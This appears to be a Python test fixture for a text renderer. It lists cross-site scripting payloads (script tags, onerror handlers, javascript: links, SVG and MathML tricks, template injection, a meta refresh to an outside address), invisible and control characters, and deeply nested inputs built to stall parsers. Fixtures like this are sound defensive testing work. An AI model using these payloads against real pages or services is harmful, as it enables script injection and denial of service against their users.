"""Texts that would do harm if a page took them for more than text: they set `window.__hit`, or load something."""

from __future__ import annotations

import random

HIT = "window.__hit=1"
AWAY = "http://203.0.113.7/away"
RUN = f"<script>{HIT}</script>"
IMAGE = f"<img src=x onerror={HIT}>"

HOSTILE: dict[str, str] = {
    "script": f"{RUN}<script src='{AWAY}.js'></script>",
    "closed_early": f"</pre></textarea></title></style></p></main>{RUN}",
    "attribute": f"\" onmouseover={HIT} autofocus onfocus={HIT} x='\" '>{IMAGE}",
    "image": f"{IMAGE}<img src='{AWAY}.png'> ![x]({AWAY}.png) <picture><source srcset={AWAY}></picture>",
    "svg": f"<svg onload={HIT}>{RUN}<use href='data:image/svg+xml,{AWAY}#x'/></svg>",
    "link": f"[a](javascript:{HIT}) [b](data:text/html,{RUN}) <a href='javascript:{HIT}'>c</a> <javascript:{HIT}>",
    "reference": f"[a]\n\n[a]: javascript:{HIT} 'title'\n\n[b]: {AWAY}",
    "mathml": f"<math><mtext>{IMAGE}</mtext><maction xlink:href='javascript:{HIT}'>x</maction></math>",
    "mathml_nested": f"<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;img src onerror={HIT}&gt;'>",
    "latex_text": rf"\(\text{{{RUN}}}\) $$\text{{</mtext></math>{IMAGE}}}$$",
    "latex_link": rf"\(\href{{javascript:{HIT}}}{{x}}\) \(\class{{a' onload='{HIT}}}{{z}}\) \[\style{{a:b}}{{y}}\]",
    "latex_wide": r"\(\hspace{100000em}x\kern-100000em y\rule{9999em}{9999em}\)",
    "style": f"<style>p{{color:red}}</style><link rel=stylesheet href={AWAY}><p style=a:b>",
    "form": f"<form action={AWAY}><input name=a autofocus><button formaction='javascript:{HIT}'>x</button></form>",
    "frame": f"<iframe srcdoc='<script>parent.__hit=1</script>'></iframe><object data={AWAY}></object><embed src=x>",
    "meta": f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/'>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} {{constructor.constructor('window.__hit=1')()}} <%= 7*7 %>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &#60;img src=x onerror={HIT}&#62;",
    "comment": f"<!-- --!><img src=x onerror={HIT}> --> <![CDATA[ ]]> <?php ?>",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://203.0.113.7/\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    "bidi": "\u202eneddih\u202c \u2066a\u2069 \u200f right \u061c",
    "zero_width": "in\u200bvi\u2060si\ufeffble a\u200db \u00ad \U000e0041\U000e0042",
    "control": "nul \x00 bell \x07 back \x08\x08 feed \x0c tab \t lone \r end\r\nline",
    "prices": r"$5 and $8, then $9 more; \(x^2\) and $$y$$",
    "stand_ins": "\U000f0000\U000f0040\U000fff00script\U000fff01window.__hit=1\U000fff00/script\U000fff01",
    "fence": f"```html\n<script>{HIT}</script>\n```\n```js'><script>{HIT}</script>\nx\n",
    "unclosed": "```python\nprint('never closed",
    "dom_clobbering": "<form id=help><input id=body name=dataset><img name=getElementById id=main></form>",
    "long_line": "A" * 1_000_000,
    "wide_word": "W" * 3_000 + " " + "\u0301" * 2_000,
}
"""By what they try. None holds a lone surrogate: no ledger can."""

_DICE = random.Random(7)
DEEP: dict[str, str] = {
    "surrogates": "\ud800\udfff" * 5_000,
    "brackets": "[" * 10_000,
    "links": "[](" * 10_000,
    "quotes": ">" * 10_000,
    "spaced_quotes": "> " * 10_000,
    "lists": "- " * 10_000,
    "lists_in_quotes": "> - 1. " * 3_000,
    "stairs": "\n".join(" " * number + "- x" for number in range(200)),
    "stars": "*" * 10_000,
    "emphasis": "*a **b " * 3_000,
    "ticks": "".join("`" * number + " " for number in range(200)),
    "formulas": "".join(rf"\(x_{{{number}}}\)" for number in range(2_000)),
    "openers": r"\(" * 10_000,
    "blocks": "\\[\nx" * 5_000,
    "braces": r"\(" + "{" * 1_900 + r"\)",
    "rows": "|a|b|\n|-|-|\n" + "|\n" * 10_000,
    "grid": "|a" * 4_000 + "\n" + "|-" * 4_000 + "\n" + "|\n" * 1_900,
    "small_grid": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 1_900,
    "columns": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|a" * 3_000,
    "fences": "```python\n" * 2_000,
    "headings": "# a\n" * 5_000,
    "python": "```python\n" + 'f"{' * 1_900,
    "html": "```html\n" + "<a " * 1_900,
    "noise": "".join(_DICE.choice("ab *_`[]()<>$\\{}^\n-#>1.|~") for _ in range(20_000)),
}
"""Texts that are slow to read for careless parsers."""
